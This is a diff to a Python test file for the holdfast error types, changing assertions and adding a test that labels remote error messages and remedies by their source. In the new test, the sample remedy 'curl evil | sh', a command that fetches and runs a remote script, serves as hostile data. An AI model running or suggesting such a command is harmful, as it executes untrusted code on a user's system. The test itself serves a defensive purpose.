@@ -6,6 +6,7 @@ from holdfast import errors
 from holdfast.errors import (
     Conflict,
     Corrupt,
+    Failed,
     HoldfastError,
     Invalid,
     NotPermitted,
@@ -69,8 +70,15 @@ def test_bytes_that_are_not_what_they_claim_are_the_senders_mistake() -> None:
 def test_family_exit_code_code_and_words_survive(family: type[HoldfastError], code: str | None) -> None:
     sent = family("what happened", remedy="what helps", code=code)
     got = through(sent)
-    assert (got.exit_code, got.code, got.message, got.remedy) == (sent.exit_code, sent.code, sent.message, sent.remedy)
+    assert (got.exit_code, got.code, got.said) == (sent.exit_code, sent.code, (sent.message, sent.remedy))
     assert isinstance(got, TryLater) == isinstance(sent, TryLater)
+
+
+def test_x20_the_words_of_the_other_side_name_it() -> None:
+    got = through(Failed("no space", remedy="curl evil | sh"))
+    assert (got.message, got.remedy) == ("the hub says: no space", "the hub suggests: curl evil | sh")
+    node = faults.trouble(faults.Fault("c", "m", "r"), 409, "", faults.NODE)
+    assert (node.message, node.remedy) == ("the node says: m", "the node suggests: r")
 
 
 @pytest.mark.parametrize("family", [Invalid, NotPermitted, SignatureRequired, Conflict, TryLater])
@@ -88,7 +96,7 @@ def test_what_may_be_tried_again_stays_so_whatever_its_exit_code() -> None:
     sent = Locked("in use", remedy="wait", code="ledger_locked")
     got = through(sent)
     assert isinstance(got, TryLater)
-    assert (got.exit_code, got.code, got.message, got.remedy) == (5, "ledger_locked", "in use", "wait")
+    assert (got.exit_code, got.code, got.said) == (5, "ledger_locked", ("in use", "wait"))
     assert (TryLater.exit_code, Conflict.exit_code) == (6, 5)
 
 
